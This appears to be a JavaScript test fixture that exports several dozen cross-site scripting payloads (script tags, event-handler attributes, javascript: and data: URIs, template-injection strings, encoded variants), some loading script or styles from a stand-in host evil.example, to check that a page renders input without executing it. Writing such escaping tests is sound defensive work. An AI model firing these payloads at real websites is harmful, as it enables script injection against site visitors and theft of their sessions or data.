/**
 * Texts that run as a script when they are inserted into a page, link, style or template without escaping. Showing one must cause no
 * dialog, no violation of the content security policy, and no element with `data-ran`.
 */
const markup = `
<script data-ran>alert(1)</script>
<script data-ran src=//evil.example/x.js></script>
<img data-ran src=x onerror=alert(1)>
<img data-ran src="x" onerror="alert(1)">
<IMG DATA-RAN SRC=x OnErRoR=alert(1)>
<img/data-ran/src=x/onerror=alert(1)>
<svg data-ran onload=alert(1)>
<svg data-ran><script>alert(1)</script></svg>
<svg data-ran><animate onbegin=alert(1) attributeName=x dur=1s>
<svg data-ran><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math data-ran><mi xlink:href="javascript:alert(1)">x</mi></math>
<body data-ran onload=alert(1)>
<iframe data-ran src="javascript:alert(1)"></iframe>
<iframe data-ran srcdoc="<script>alert(1)</script>"></iframe>
<object data-ran data="javascript:alert(1)"></object>
<embed data-ran src="javascript:alert(1)">
<a data-ran href="javascript:alert(1)">x</a>
<a data-ran href="&#106;avascript:alert(1)">x</a>
<form data-ran action="javascript:alert(1)"><button>x</button></form>
<button data-ran formaction="javascript:alert(1)" form=x>x</button>
<input data-ran autofocus onfocus=alert(1)>
<select data-ran autofocus onfocus=alert(1)>
<textarea data-ran autofocus onfocus=alert(1)>
<details data-ran open ontoggle=alert(1)>
<video data-ran><source onerror=alert(1)></video>
<audio data-ran src=x onerror=alert(1)>
<marquee data-ran onstart=alert(1)>
<style data-ran>*{background:url(javascript:alert(1))}</style>
<link data-ran rel=stylesheet href=//evil.example/x.css>
<meta data-ran http-equiv=refresh content="0;url=javascript:alert(1)">
<base data-ran href=//evil.example/>
<template data-ran><script>alert(1)</script></template>
<noscript><p title="</noscript><img data-ran src=x onerror=alert(1)>">
<p data-ran style="animation:x" onanimationstart=alert(1)>
<div data-ran onmouseover=alert(1) style=position:fixed;inset:0>x</div>
<x data-ran contenteditable onblur=alert(1) autofocus>
"><img data-ran src=x onerror=alert(1)>
'><img data-ran src=x onerror=alert(1)>
\`><img data-ran src=x onerror=alert(1)>
" onmouseover="alert(1)" data-ran="
' autofocus onfocus='alert(1)' data-ran='
</textarea><script data-ran>alert(1)</script>
</title><script data-ran>alert(1)</script>
</script><script data-ran>alert(1)</script>
</style><script data-ran>alert(1)</script>
--><script data-ran>alert(1)</script>
]]><script data-ran>alert(1)</script>
&lt;script data-ran&gt;alert(1)&lt;/script&gt;
\\u003cscript data-ran\\u003ealert(1)\\u003c/script\\u003e
%3Cscript%20data-ran%3Ealert(1)%3C/script%3E
＜script data-ran＞alert(1)＜/script＞
{{constructor.constructor('alert(1)')()}}
\${alert(1)}
#{alert(1)}
<%= alert(1) %>
';alert(1);//
"-alert(1)-"`
  .trim()
  .split('\n')

/** For fields that are a link or an address, because there the scheme decides what happens. */
const schemes = [
  'javascript:alert(1)',
  'data:text/html,<script data-ran>alert(1)</script>',
  '\u0001javascript:alert(1)',
]

export const payloads = [...schemes, ...markup]

/** All of them, twelve in a text that is as long as a name may be; each text begins with another scheme. */
export const texts = Array.from({ length: Math.ceil(payloads.length / 12) }, (_, nth) =>
  payloads.filter((_each, place) => place % Math.ceil(payloads.length / 12) === nth).join(' '),
)
